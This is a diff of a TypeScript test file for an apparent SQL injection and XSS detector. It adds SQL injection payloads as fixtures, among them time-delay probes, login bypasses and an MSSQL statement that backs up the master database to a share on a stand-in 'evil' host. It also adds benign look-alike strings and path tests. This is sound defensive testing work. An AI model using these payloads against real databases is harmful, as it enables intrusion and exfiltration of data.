@@ -37,6 +37,7 @@ const SQLI_PL1: Record<string, string[]> = {
   'conditions only SQL writes: IF over a constant compared with =, a SQL call appended to a list, a user name cast to int': ['if(2=', 'IF(1=1,SLEEP(5),0)', "if('a'='a'", ", FIND_IN_SET('22', Category )", ', md5(password)', '1 current_user::int', 'session_user::integer'],
   'SQLite/PostgreSQL postfix null tests after a break, and a dangling condition the closing quote completes': ["' notnull --", "x' isnull--", "' * from = 1 or '9", "admin' = 1 or 'a", "' or '' '"],
   "login bypasses doing arithmetic on the application's two quoted halves": ["'-'", '"-"', "'*'", "'&'", "'^'"],
+  'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
 };
 
 const SQLI_PL2: Record<string, string[]> = {
@@ -78,7 +79,7 @@ const BENIGN: string[] = [
   'Order by date', 'Group by size', 'ORDER BY', 'from Paris with love', 'Two boxes (fragile) as agreed from Monday on', 'in progress', 'is not available', 'like new',
   'in case when it rains then we stay home', 'Case closed', 'Where is my order?', 'having fun', 'values matter', "I'd like 'em both", 'std::string and Vec::new',
   'version 1.2.3', 'Execute the plan', 'exec chair', 'execute order', 'I declare @bob the winner', 'declare @bob the winner', '=IF(A1=1,1,0)', 'if (1 < 2) then', ', and then (some)',
-  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
+  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's '+' sign", "a'+'b c", 'backup database to the cloud', "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
   // JavaScript and HTML words in prose and data
   'window.location is undefined in my app', 'Use `Function.prototype.call` to invoke it', 'See section 2.1 (document) for details', 'self-service portal',
   'top 10 results', 'C++ operators: a+b, a+=b', '¼ cup sugar, ¾ cup flour', 'price 1¼ – 1¾ €',
@@ -139,7 +140,7 @@ test('benign look-alikes pass at paranoia 1 and 2 (SQL injection and XSS finding
 });
 
 test('look-alikes of the shapes that block at paranoia 1 (code, prose, probes of paranoia 2) pass at the default', () => {
-  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM']) {
+  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM', '1 and coalesce(a, b) stuff']) {
     for (const r of everywhere(b)) {
       const mine = inspect(r).findings.filter((f) => f.category === 'sqli');
       assert.ok(totalScore(mine) < 5, `false positive: ${b} → ${JSON.stringify(mine)}`);
@@ -252,6 +253,13 @@ test("a string break in a path segment written with + for spaces (a path rewritt
   for (const path of ["/post/foo/24'union+all+select+1,2,3+from+aa", "/post/foo/24'union+all+select+1,2,3+from+aa/bar", "/item/1'+or+1=1--", "/p/x'+and+sleep(5)--"]) assert.ok(inspect({ path }).attack, path);
   // + between words is ordinary in paths; without a break the + reading is not taken
   for (const path of ['/search/select+specialty+hospital', '/q/select+specialty+hospital', "/tags/O'Brien+or+Smith", "/wiki/Rock'n'roll+and+jazz", '/search/c++', "/p/don't+select+all+from+here", '/docs/union+select+explained']) {
+    assert.equal(inspect({ path }).attack, false, path);
+  }
+});
+
+test('a last path segment that is a SQL probe call or a server variable; OData and wiki paths are not', () => {
+  for (const path of ['/api/items/version()', '/api/items/@@version', '/api/items/database()', '/search/concat(']) assert.ok(inspect({ path }).attack, path);
+  for (const path of ['/odata/Products(1)', "/odata/Customers('ALFKI')", "/_api/web/lists/GetByTitle('Documents')", '/odata/Products/Default.MostExpensive()', '/wiki/Count_(music)', '/wiki/Sleep_(film)', '/api/v1/sum(total)', '/docs/md5(x)', '/@@']) {
     assert.equal(inspect({ path }).attack, false, path);
   }
 });
